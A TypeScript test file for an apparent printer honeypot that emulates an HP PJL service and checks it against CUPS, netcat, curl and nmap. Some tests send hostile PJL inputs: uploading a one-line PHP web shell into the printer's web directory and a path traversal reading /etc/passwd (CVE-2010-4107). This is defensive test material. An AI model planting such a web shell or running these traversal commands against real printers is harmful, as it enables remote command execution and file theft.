import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

const ofAction = (action: string) => (event: Event) => event.skep.service === 'pjl' && event.event.action === action
type Upload = Event & { file?: { path?: string; hash?: { sha256?: string } } }
const backend =
  ['/usr/lib/cups/backend/socket', '/usr/lib/cups/backend-available/socket'].find(file => fs.existsSync(file)) ?? ''
const exit = '\x1b%-12345X'

describe('pjl, with real clients', () => {
  let skep: Skep
  let port: string
  let home: string
  before(async () => {
    home = fs.mkdtempSync(path.join(os.tmpdir(), 'pjl-clients-'))
    skep = await startSkep({
      config: 'persona: { os: debian-12 }\nedition: mini\nservices: { pjl: { enabled: true } }\n',
    })
    port = String(skep.port('pjl'))
  })
  after(async () => {
    await skep?.stop()
    fs.rmSync(home, { recursive: true })
  })
  const kept = async (content: string) => {
    const sha256 = createHash('sha256').update(content).digest('hex')
    const [found] = await skep.eventually(
      event => ofAction('file-upload')(event) && (event as Upload).file?.hash?.sha256 === sha256,
    )
    return (found as Upload).file?.path
  }
  const nc = async (input: string) =>
    (await runClient('nc', ['-q', '1', '127.0.0.1', port], { input, seconds: 20 })).out

  test('CUPS prints through its socket backend', {
    skip: backend === '' && 'no backend of CUPS',
  }, async () => {
    const file = path.join(home, 'page.ps')
    const content = `%!PS\n(read me) show\n${'% filler\n'.repeat(20_000)}showpage\n`
    fs.writeFileSync(file, content)
    const uri = `DEVICE_URI=socket://127.0.0.1:${port}/?waiteof=false`
    const { status, err } = await runClient('env', [uri, backend, '1', 'me', 'read me', '1', '', file])
    assert.equal(status, 0, err)
    assert.equal(await kept(content), 'job.ps')
  })

  describe('netcat, as PRET would use it', { skip: missing('nc') }, () => {
    test('hears who the printer is, and changes what it shows for good', async () => {
      assert.match(await nc(`${exit}@PJL INFO ID\r\n${exit}`), /^@PJL INFO ID\r\n"hp LaserJet [\w]+"\r\n\f$/i)
      await nc(`${exit}@PJL RDYMSG DISPLAY="OUT OF CHEESE"\r\n${exit}`)
      assert.match(await nc(`${exit}@PJL INFO STATUS\r\n${exit}`), /DISPLAY="OUT OF CHEESE"\r\nONLINE=TRUE\r\n\f$/)
      await nc(`${exit}@PJL RDYMSG DISPLAY=""\r\n${exit}`)
    })

    test('leaves a file, finds it again at the next visit, and fetches it', async () => {
      const content = '<?php system($_GET["c"]); ?>\n'
      const name = 'NAME="0:\\webServer\\home\\x.php"'
      await nc(`${exit}@PJL FSDOWNLOAD FORMAT:BINARY SIZE=${content.length} ${name}\r\n${content}${exit}`)
      assert.equal(await kept(content), '0:\\webServer\\home\\x.php')
      const listed = await nc(`${exit}@PJL FSDIRLIST NAME="0:\\webServer\\home" ENTRY=1 COUNT=99\r\n${exit}`)
      assert.match(listed, new RegExp(`x\\.php TYPE=FILE SIZE=${content.length}\r\n`))
      const fetched = await nc(`${exit}@PJL FSUPLOAD ${name} OFFSET=0 SIZE=${content.length}\r\n${exit}`)
      assert.ok(fetched.endsWith(`${content}\f`), fetched)
    })

    test('does not get out of the volume', async () => {
      const said = await nc(`${exit}@PJL FSUPLOAD NAME="0:\\..\\..\\etc\\passwd" OFFSET=0 SIZE=999\r\n${exit}`)
      assert.match(said, /FILEERROR=3/)
      const [seen] = await skep.eventually(ofAction('exploit'))
      assert.equal((seen as Event & { vulnerability?: { id: string } }).vulnerability?.id, 'CVE-2010-4107')
    })
  })

  test('a browser’s request is printed', { skip: missing('curl') }, async () => {
    await runClient('curl', ['-s', '-m', '2', `http://127.0.0.1:${port}/admin`], { seconds: 20 })
    await skep.eventually(event => ofAction('file-upload')(event) && (event as Upload).file?.path === 'job.txt')
  })

  test('nmap’s own question is answered so that it names the model', { skip: missing('nc') }, async () => {
    // Asking with `-sV --allports --version-all` away from port 9100 takes minutes, since a printer answers nothing else.
    assert.match(await nc(`${exit}@PJL INFO ID\r\n${exit}\r\n`), /^@PJL INFO ID\r?\n"([^"]+)"\r?\n/)
  })

  test('nmap reads and sets the display', { skip: missing('nmap') }, async () => {
    const script = ['--script', '+pjl-ready-message', '--script-args', 'pjl_ready_message="HELLO"']
    const { out } = await runClient('nmap', ['-Pn', '-n', '-p', port, ...script, '127.0.0.1'], { seconds: 60 })
    assert.match(out, /pjl-ready-message: "[^"]*" changed to "HELLO"/)
    assert.doesNotMatch(out, /honey|skep/i)
  })
})
